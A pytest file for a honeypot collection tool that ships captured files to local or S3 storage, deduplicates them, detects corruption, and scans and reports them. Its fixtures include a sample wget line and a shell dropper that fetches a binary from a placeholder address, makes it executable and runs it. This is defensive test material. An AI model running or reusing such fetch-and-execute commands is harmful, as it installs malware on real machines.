# SPDX-License-Identifier: MIT
"""Captured files reach central storage: the sensor's content store shipped raw, once per content.

Local directory store first (dedup across sensors, restarts, damaged files,
permissions, ingest of the store root), then a real S3 server (single-node
Ceph radosgw, started once for the module, about 20 s; skipped with the reason
without Ceph or root): two sensors shipping to one bucket, the existing-object
skip, :class:`CentralFiles` listing and reading, corrupt objects.
"""

from __future__ import annotations

import dataclasses
import gzip
import hashlib
import json
import logging
import stat
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cephutil import RGW, ceph_unavailable, run_ceph_rgw
from lakeutil import cli_env

from honeyfarm.collect.centralfiles import CentralFiles, CorruptFile, StoredFile, TooLarge
from honeyfarm.collect.files import expand_paths
from honeyfarm.collect.objectstore import Blob, LocalStore, ObjectStore
from honeyfarm.collect.remote_s3 import skipped_key
from honeyfarm.collect.ship import ShipConfig, Shipper
from honeyfarm.collect.ship_files import files_key
from honeyfarm.sensor.capture.store import ContentStore
from honeyfarm.sensor.config import SpoolConfig
from honeyfarm.sensor.spool import Spool

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"not really a program"


# --- helpers -------------------------------------------------------------------
def sensor(root: Path, name: str, blobs: list[bytes], events: int = 3) -> Path:
    """A sensor's spool: ``events`` closed events and a content store holding ``blobs`` (real classes)."""
    spool = root / name
    sp = Spool(SpoolConfig(dir=spool, rotate_bytes=1 << 30, max_bytes=1 << 30), name)
    for i in range(events):
        sp.write({
            "ts": f"2024-05-01T10:00:{i:02d}.000000Z", "eventid": "cowrie.session.connect",
            "session": uuid.uuid4().hex[:12], "src_ip": "198.51.100.7", "src_port": 40000 + i, "dst_port": 22,
            "protocol": "ssh", "sensor": name,
        })  # fmt: skip
    assert sp.rotate() is not None
    store = ContentStore(spool / "downloads", 1 << 30)
    for b in blobs:
        assert store.put(b).kept
    return spool


def cfg_for(spool: Path, **kw: Any) -> ShipConfig:
    base: dict[str, Any] = {"store": "local", "local_dir": spool.parent / "objects", "spool_dir": spool}
    return ShipConfig.model_validate({**base, **kw})


def ship_once(cfg: ShipConfig, name: str, store: ObjectStore | None = None) -> Shipper:
    sh = Shipper(cfg, sensor_name=name, store=store)
    try:
        assert sh.run(lambda: False, lambda d: None, once=True)
    finally:
        sh.close()
    return sh


def sha(b: bytes) -> str:
    return hashlib.sha256(b).hexdigest()


def stored_files(objects: Path) -> dict[str, bytes]:
    return {str(p.relative_to(objects)): p.read_bytes() for p in (objects / "files").rglob("*") if p.is_file()}


class CountingStore:
    """A real store that counts what the shipper asks of it."""

    def __init__(self, inner: Any) -> None:
        self.inner, self.puts, self.stats = inner, 0, 0

    def put(self, key: str, blob: Blob) -> None:
        self.puts += 1
        self.inner.put(key, blob)

    def stat(self, key: str) -> dict[str, Any] | None:
        self.stats += 1
        result: dict[str, Any] | None = self.inner.stat(key)
        return result

    def describe(self) -> str:
        return str(self.inner.describe())


def ingest_json(target: str, cwd: Path, env: dict[str, str]) -> dict[str, Any]:
    import subprocess

    p = subprocess.run(
        [sys.executable, "-m", "honeyfarm.cli", "ingest", target, "--lake", "L", "--json"],
        cwd=cwd, env=env, capture_output=True, text=True, encoding="utf-8", timeout=180,
    )  # fmt: skip
    assert p.returncode == 0 and "Traceback" not in p.stderr, p.stderr
    out: dict[str, Any] = json.loads(p.stdout)
    return out


# --- local directory store ---------------------------------------------------------
def test_local_ships_raw_files_at_the_root_without_exec_bits(tmp_path: Path) -> None:
    blobs = [ELF, b"#!/bin/sh\nwget http://203.0.113.9/x\n"]
    spool = sensor(tmp_path, "alpha", blobs)
    (spool / "downloads" / ".tmp-deadbeef.part").write_bytes(b"in progress")
    (spool / "downloads" / "zz").mkdir()
    (spool / "downloads" / "zz" / ("0" * 64)).write_bytes(b"wrong fan-out dir")
    (spool / "downloads" / sha(ELF)[:2] / "notes.txt").write_bytes(b"not a content name")
    before = {p: p.stat() for p in (spool / "downloads").rglob("*") if p.is_file()}
    sh = ship_once(cfg_for(spool, delete_after_ship=True), "alpha")
    objects = tmp_path / "objects"
    assert stored_files(objects) == {files_key("files", sha(b)): b for b in blobs}  # raw, not gzipped
    assert list((objects / "raw").rglob("*.gz"))  # the events went to `prefix`, as before
    assert (sh.stats.shipped_blobs, sh.stats.existing_blobs, sh.stats.shipped_blob_bytes) == (
        2,
        0,
        sum(map(len, blobs)),
    )
    assert sh.stats.shipped_files == 1 and sh.stats.pending_blobs == 0
    for p in (objects / "files").rglob("*"):
        if p.is_file():
            assert stat.S_IMODE(p.stat().st_mode) & 0o133 == 0, oct(p.stat().st_mode)  # <= 0o644
    # The sensor's files stay, untouched, even with delete_after_ship (which removed the spool file).
    after = {p: p.stat() for p in (spool / "downloads").rglob("*") if p.is_file()}
    assert {p: (s.st_size, s.st_mtime_ns) for p, s in after.items()} == {
        p: (s.st_size, s.st_mtime_ns) for p, s in before.items()
    }
    assert not list((spool / "events").glob("*.jsonl"))
    state = json.loads((spool / "ship-state.json").read_bytes())
    assert set(state["files"]) == {sha(b) for b in blobs}


def test_two_sensors_same_file_is_one_object(tmp_path: Path) -> None:
    shared, a_only, b_only = ELF, b"alpha's own", b"beta's own"
    a = sensor(tmp_path, "alpha", [shared, a_only])
    b = sensor(tmp_path, "beta", [shared, b_only])
    ship_once(cfg_for(a), "alpha")
    key = tmp_path / "objects" / files_key("files", sha(shared))
    mtime = key.stat().st_mtime_ns
    time.sleep(0.02)
    store = CountingStore(LocalStore(tmp_path / "objects"))
    sh = ship_once(cfg_for(b), "beta", store)
    assert (sh.stats.shipped_blobs, sh.stats.existing_blobs) == (1, 1)
    assert key.stat().st_mtime_ns == mtime  # not rewritten
    assert store.puts == 1 + 1  # beta's events and beta's own file; the shared file was only stat'ed
    assert stored_files(tmp_path / "objects") == {files_key("files", sha(x)): x for x in (shared, a_only, b_only)}


def test_restart_neither_uploads_nor_checks_again(tmp_path: Path) -> None:
    spool = sensor(tmp_path, "alpha", [ELF, b"two"])
    ship_once(cfg_for(spool), "alpha")
    store = CountingStore(LocalStore(tmp_path / "objects"))
    sh = ship_once(cfg_for(spool), "alpha", store)
    assert (store.puts, store.stats, sh.stats.shipped_blobs, sh.stats.existing_blobs) == (0, 0, 0, 0)
    # A new capture ships alone.
    ContentStore(spool / "downloads", 1 << 30).put(b"three")
    sh = ship_once(cfg_for(spool), "alpha", store)
    assert (store.puts, store.stats, sh.stats.shipped_blobs) == (1, 1, 1)


def test_file_not_matching_its_name_is_not_shipped(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    spool = sensor(tmp_path, "alpha", [ELF])
    wrong = sha(b"the real content")
    (spool / "downloads" / wrong[:2]).mkdir(exist_ok=True)
    (spool / "downloads" / wrong[:2] / wrong).write_bytes(b"the real con")  # cut short
    with caplog.at_level(logging.WARNING, "honeyfarm.collect.ship_files"):
        cfg = cfg_for(spool)
        sh = Shipper(cfg, sensor_name="alpha")
        try:
            assert sh.run(lambda: False, lambda d: None, once=True)
            assert sh.run(lambda: False, lambda d: None, once=True)  # a second pass: no second warning
        finally:
            sh.close()
    assert stored_files(tmp_path / "objects") == {files_key("files", sha(ELF)): ELF}
    assert sum("does not hash to its name" in r.getMessage() for r in caplog.records) == 1
    assert wrong not in json.loads((spool / "ship-state.json").read_bytes())["files"]


def test_ship_files_off_and_custom_prefix(tmp_path: Path) -> None:
    spool = sensor(tmp_path, "alpha", [ELF])
    assert ship_once(cfg_for(spool, ship_files=False), "alpha").stats.shipped_blobs == 0
    assert not (tmp_path / "objects" / "files").exists()
    sh = ship_once(cfg_for(spool, files_prefix="malware/"), "alpha")
    assert sh.stats.shipped_blobs == 1
    assert (tmp_path / "objects" / "malware" / "sha256" / sha(ELF)[:2] / sha(ELF)).read_bytes() == ELF
    with pytest.raises(ValueError, match=r"\.\."):
        cfg_for(spool, files_prefix="../x")


def test_ingest_of_the_store_root_ignores_files(tmp_path: Path) -> None:
    spool = sensor(tmp_path, "alpha", [ELF, b'{"eventid": "looks like a log"}\n'], events=5)
    ship_once(cfg_for(spool), "alpha")
    objects = tmp_path / "objects"
    assert not [p for p in expand_paths([str(objects)]) if "/sha256/" in p.as_posix()]
    assert not [p for p in expand_paths([f"{objects}/**"]) if "/sha256/" in p.as_posix()]
    out = ingest_json(str(objects), tmp_path, cli_env())
    assert (out["ingested"], out["files"], out["dead_letter"], out["errors"]) == (5, 1, 0, [])
    k = files_key("files", sha(ELF))
    assert skipped_key(k) and skipped_key("x/" + k) and not skipped_key("raw/sensor=a/date=2024-05-01/a.jsonl.gz")


def test_central_files_local_list_open_and_corrupt(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    spool = sensor(tmp_path, "alpha", [ELF, b"small"])
    cfg = cfg_for(spool)
    ship_once(cfg, "alpha")
    objects = tmp_path / "objects"
    (objects / "files" / "sha256" / "README").write_bytes(b"stray")
    cf = CentralFiles.from_ship_config(cfg)
    with caplog.at_level(logging.WARNING, "honeyfarm.collect.centralfiles"):
        got = {f.sha256: f for f in cf.list()}
    assert set(got) == {sha(ELF), sha(b"small")} and "files/sha256/" in cf.describe()
    assert sum("README" in r.getMessage() for r in caplog.records) == 1
    f = got[sha(ELF)]
    assert f.size == len(ELF) and f.key == files_key("files", f.sha256)
    assert (
        f.stored_at is not None and f.stored_at.utcoffset() is not None and f.stored_at.utcoffset().total_seconds() == 0
    )
    with cf.open(f, 1 << 20) as p:
        assert p.read_bytes() == ELF
    with pytest.raises(TooLarge), cf.open(f, len(ELF) - 1):
        pass
    (objects / f.key).write_bytes(b"tampered")
    with pytest.raises(CorruptFile), cf.open(dataclasses.replace(f, size=len(b"tampered")), 1 << 20):
        pass


# --- S3: a real Ceph radosgw ------------------------------------------------------------
@dataclasses.dataclass
class S3World:
    rgw: RGW
    bucket: str
    client: Any
    tmp: Path
    cfg_a: ShipConfig
    cfg_b: ShipConfig
    a: Shipper
    b: Shipper
    shared_modified: Any
    shared_modified_after: Any


def s3_cfg(rgw: RGW, bucket: str, spool: Path, **kw: Any) -> ShipConfig:
    return ShipConfig.model_validate({
        "store": "s3", "bucket": bucket, "endpoint_url": rgw.endpoint, "region": "us-east-1",
        "addressing_style": "path", "spool_dir": str(spool), "retry_initial_seconds": 0.2,
        "retry_max_seconds": 1.0, "timeout_seconds": 10.0, **kw,
    })  # fmt: skip


def s3_env(rgw: RGW) -> dict[str, str]:
    env = cli_env(AWS_ACCESS_KEY_ID=rgw.access_key, AWS_SECRET_ACCESS_KEY=rgw.secret_key)
    env["AWS_EC2_METADATA_DISABLED"] = "true"
    env["AWS_CONFIG_FILE"] = env["AWS_SHARED_CREDENTIALS_FILE"] = "/nonexistent"
    for k in ("AWS_PROFILE", "AWS_SESSION_TOKEN", "AWS_ENDPOINT_URL", "AWS_REGION", "AWS_DEFAULT_REGION"):
        env.pop(k, None)
    return env


SHARED, A_ONLY, B_ONLY = ELF, b"alpha caught this", b"beta caught that"


@pytest.fixture(scope="module")
def s3(tmp_path_factory: pytest.TempPathFactory) -> Iterator[S3World]:
    """One Ceph for the module; two sensors (one file in common) shipped to one bucket."""
    reason = ceph_unavailable()
    if reason:
        pytest.skip(reason)
    import boto3
    from botocore.config import Config as BotoConfig

    tmp = tmp_path_factory.mktemp("s3files")
    with run_ceph_rgw(tmp_path_factory.mktemp("ceph")) as rgw, pytest.MonkeyPatch.context() as mp:
        for k, v in s3_env(rgw).items():
            if k.startswith("AWS_"):
                mp.setenv(k, v)
        for k in ("AWS_PROFILE", "AWS_SESSION_TOKEN", "AWS_ENDPOINT_URL"):
            mp.delenv(k, raising=False)
        client = boto3.client(
            "s3", endpoint_url=rgw.endpoint, region_name="us-east-1", aws_access_key_id=rgw.access_key,
            aws_secret_access_key=rgw.secret_key, config=BotoConfig(s3={"addressing_style": "path"}),
        )  # fmt: skip
        bucket = f"files-{uuid.uuid4().hex[:12]}"
        client.create_bucket(Bucket=bucket)
        cfg_a = s3_cfg(rgw, bucket, sensor(tmp, "alpha", [SHARED, A_ONLY]))
        cfg_b = s3_cfg(rgw, bucket, sensor(tmp, "beta", [SHARED, B_ONLY]))
        a = ship_once(cfg_a, "alpha")
        key = files_key("files", sha(SHARED))
        before = client.head_object(Bucket=bucket, Key=key)["LastModified"]
        time.sleep(1.1)  # LastModified has a resolution of one second
        b = ship_once(cfg_b, "beta")
        after = client.head_object(Bucket=bucket, Key=key)["LastModified"]
        yield S3World(rgw, bucket, client, tmp, cfg_a, cfg_b, a, b, before, after)


def s3_keys(w: S3World, prefix: str = "") -> list[str]:
    pages = w.client.get_paginator("list_objects_v2").paginate(Bucket=w.bucket, Prefix=prefix)
    return [o["Key"] for page in pages for o in page.get("Contents", [])]


@pytest.mark.slow
def test_s3_two_sensors_one_object_per_content(s3: S3World) -> None:
    keys = s3_keys(s3, "files/")
    assert sorted(keys) == sorted(files_key("files", sha(x)) for x in (SHARED, A_ONLY, B_ONLY))
    assert (s3.a.stats.shipped_blobs, s3.a.stats.existing_blobs) == (2, 0)
    assert (s3.b.stats.shipped_blobs, s3.b.stats.existing_blobs) == (1, 1)
    assert s3.shared_modified_after == s3.shared_modified  # beta did not upload it again
    obj = s3.client.get_object(Bucket=s3.bucket, Key=files_key("files", sha(SHARED)))
    assert obj["Body"].read() == SHARED and obj["ContentType"] == "application/octet-stream"
    assert obj["Metadata"] == {"sha256": sha(SHARED), "sensor": "alpha"}
    raw = s3_keys(s3, "raw/")
    assert len(raw) == 2 and all(gzip.decompress(s3.client.get_object(Bucket=s3.bucket, Key=k)["Body"].read())
                                 for k in raw)  # fmt: skip


@pytest.mark.slow
def test_s3_restart_neither_uploads_nor_checks(s3: S3World) -> None:
    from honeyfarm.collect.objectstore import make_store

    store = CountingStore(make_store(s3.cfg_a))
    sh = ship_once(s3.cfg_a, "alpha", store)
    assert (store.puts, store.stats, sh.stats.shipped_blobs, sh.stats.existing_blobs) == (0, 0, 0, 0)


@pytest.mark.slow
def test_s3_central_files_list_and_open_round_trip(s3: S3World, tmp_path: Path) -> None:
    cf = CentralFiles.from_ship_config(s3.cfg_b, tmp_dir=tmp_path)
    assert cf.describe().startswith(f"s3://{s3.bucket}")
    files = {f.sha256: f for f in cf.list()}
    want = {sha(x): x for x in (SHARED, A_ONLY, B_ONLY)}
    assert set(files) == set(want)
    for h, f in files.items():
        assert f.size == len(want[h]) and f.key == files_key("files", h)
        assert f.stored_at is not None and f.stored_at.utcoffset() is not None
        assert abs(time.time() - f.stored_at.timestamp()) < 600
        with cf.open(f, 1 << 20) as p:
            assert p.read_bytes() == want[h] and stat.S_IMODE(p.stat().st_mode) == 0o600
            assert p.parent == tmp_path
        assert not p.exists()
    assert list(tmp_path.iterdir()) == []
    f = files[sha(SHARED)]
    with pytest.raises(TooLarge), cf.open(f, f.size - 1):
        pass
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_s3_ingest_of_the_bucket_root_skips_files(s3: S3World, tmp_path: Path) -> None:
    env = s3_env(s3.rgw) | {"AWS_ENDPOINT_URL": s3.rgw.endpoint}
    out = ingest_json(f"s3://{s3.bucket}/", tmp_path, env)
    assert (out["ingested"], out["files"], out["dead_letter"], out["errors"]) == (6, 2, 0, [])


@pytest.mark.slow
def test_s3_corrupt_object_and_stray_keys(s3: S3World, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Another area of the bucket (``files_prefix = "evil"``), written by hand as a damaged store would be."""
    good = sha(b"the genuine file")
    s3.client.put_object(Bucket=s3.bucket, Key=files_key("evil", good), Body=b"something else entirely")
    s3.client.put_object(Bucket=s3.bucket, Key="evil/sha256/zz/not-a-digest", Body=b"stray")
    cf = CentralFiles.from_ship_config(
        s3_cfg(s3.rgw, s3.bucket, s3.tmp / "alpha", files_prefix="evil"), tmp_dir=tmp_path
    )
    with caplog.at_level(logging.WARNING, "honeyfarm.collect.centralfiles"):
        (f,) = list(cf.list())
    assert sum("not-a-digest" in r.getMessage() for r in caplog.records) == 1
    assert f == StoredFile(good, len(b"something else entirely"), files_key("evil", good), f.stored_at)
    with pytest.raises(CorruptFile), cf.open(f, 1 << 20):
        pass
    # Listed smaller than it is: never more than the listed size is read.
    with pytest.raises(CorruptFile), cf.open(dataclasses.replace(f, size=4), 1 << 20):
        pass
    assert list(tmp_path.iterdir()) == []


# --- end to end: sensor -> ship -> S3 -> ingest + scan -> lake -> report --------------------------
DROPPER = (
    b"#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt\nwget http://203.0.113.5/bins/mips -O m; chmod 777 m; ./m s3.e2e\n"
)


@pytest.mark.slow
def test_s3_ship_scan_lake_report_end_to_end(s3: S3World, tmp_path: Path) -> None:
    """Issue 13's loop on the real S3 server: a sensor's download reaches the bucket, is scanned from there
    (YARA and a real clamd), and `honeyfarm report malware` shows it malicious with the sensor that caught it."""
    import subprocess

    import clamdutil

    if clamdutil.clamd_missing():
        pytest.skip(str(clamdutil.clamd_missing()))
    spool = sensor(tmp_path, "gamma", [DROPPER], events=1)
    sp = Spool(SpoolConfig(dir=spool, rotate_bytes=1 << 30, max_bytes=1 << 30), "gamma")
    sp.write({
        "ts": "2024-05-02T08:00:00.000000Z", "eventid": "cowrie.session.file_download", "session": "e2e0001",
        "src_ip": "198.51.100.23", "src_port": 40100, "dst_port": 22, "protocol": "ssh", "sensor": "gamma",
        "url": "http://203.0.113.5/bins.sh", "sha256": sha(DROPPER), "size": len(DROPPER),
    })  # fmt: skip
    assert sp.rotate() is not None
    cfg = s3_cfg(s3.rgw, s3.bucket, spool)
    shipped = ship_once(cfg, "gamma")
    assert shipped.stats.shipped_files == 2 and shipped.stats.shipped_blobs == 1
    env = s3_env(s3.rgw) | {"AWS_ENDPOINT_URL": s3.rgw.endpoint}
    with clamdutil.run_clamd(tmp_path / "clamd") as clamd:
        (tmp_path / "honeyfarm.toml").write_text(
            f'[lake]\npath = "L"\n[ship]\nstore = "s3"\nbucket = "{s3.bucket}"\nendpoint_url = "{s3.rgw.endpoint}"\n'
            f'region = "us-east-1"\naddressing_style = "path"\n'
            f'[scan.clamav]\naddress = "{clamd.tcp_address}"\n'
        )

        def hf(*args: str) -> str:
            p = subprocess.run(
                [sys.executable, "-m", "honeyfarm.cli", *args], cwd=tmp_path, env=env, capture_output=True,
                text=True, encoding="utf-8", timeout=300,
            )  # fmt: skip
            assert p.returncode == 0 and "Traceback" not in p.stderr, p.stderr
            return p.stdout

        ingested = json.loads(hf("ingest", f"s3://{s3.bucket}/raw/", "--json"))
        assert ingested["ingested"] >= 1 and ingested["dead_letter"] == 0
        scan = json.loads(hf("scan", "--engine", "yara", "--engine", "clamav", "--json"))
    verdicts = {(v["engine"], v["verdict"]): v["files"] for v in scan["verdicts"]}
    assert verdicts[("yara", "malicious")] == 1 and verdicts[("clamav", "clean")] >= 1, scan
    assert scan["skipped_engines"] == {} and scan["stored"] >= 4  # the module's files and gamma's
    files = json.loads(hf("report", "malware-files", "--json"))
    row = next(r for r in files if r["sha256"] == sha(DROPPER))
    assert (row["status"], row["verdict"]) == ("scanned", "malicious") and "gamma" in row["sensors"], row
    pending = [r for r in files if r.get("status") == "pending"]
    assert pending == [], pending  # every downloaded file reached the store and was scanned
